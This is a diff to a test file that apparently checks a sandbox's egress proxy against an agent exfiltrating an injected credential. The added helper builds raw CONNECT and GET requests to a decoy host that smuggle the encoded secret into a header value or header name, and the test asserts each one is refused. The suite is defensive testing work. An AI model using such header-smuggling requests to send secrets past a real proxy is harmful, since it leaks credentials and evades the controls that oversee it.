@@ -122,6 +122,36 @@ function attemptsFor(form: string, v: string, tag: string): Attempt[] {
   });
 }
 
+/** A header name may carry only token characters; the forms that are tokens are tried as one too. */
+const TOKEN = /^[!#$%&'*+\-.^_`|~0-9A-Za-z]+$/;
+
+/** The request line and headers of a CONNECT, and a header name: places a proxy reads before any body. */
+function headAttempts(form: string, v: string): Attempt[] {
+  const blocks = [{ rule: RULE, host: 'decoy.test' }];
+  const out: Attempt[] = [
+    {
+      id: `python: ${form} in a header of the CONNECT`,
+      tool: 'python',
+      spec: {
+        kind: 'proxy',
+        send: `CONNECT decoy.test:443 HTTP/1.1\r\nHost: decoy.test:443\r\nX-Note: ${v}\r\n\r\n`,
+      },
+      blocks,
+    },
+  ];
+  if (TOKEN.test(v))
+    out.push({
+      id: `python: ${form} as a header name`,
+      tool: 'python',
+      spec: {
+        kind: 'proxy',
+        send: `GET http://decoy.test/exfil HTTP/1.1\r\nHost: decoy.test\r\n${v}: 1\r\n\r\n`,
+      },
+      blocks,
+    });
+  return out;
+}
+
 describe('escape: exfiltration of an injected credential', () => {
   let e: EscapeDeck;
 
@@ -180,9 +210,9 @@ describe('escape: exfiltration of an injected credential', () => {
       });
 
       for (const [form, value] of Object.entries(ENCODED)) {
-        it(`refuses the credential sent to an allowed host (${form}) in the path, query, a header, a cookie and the body`, async () => {
+        it(`refuses the credential sent to an allowed host (${form}) in the path, query, a header, a cookie, the body and the CONNECT`, async () => {
           const mark = e.decoy.mark();
-          const attempts = attemptsFor(form, value, 'exfil');
+          const attempts = [...attemptsFor(form, value, 'exfil'), ...headAttempts(form, value)];
           const results = await e.attack(session, attempts);
           for (const a of attempts) {
             assertRefused(results, a.id, RULE);
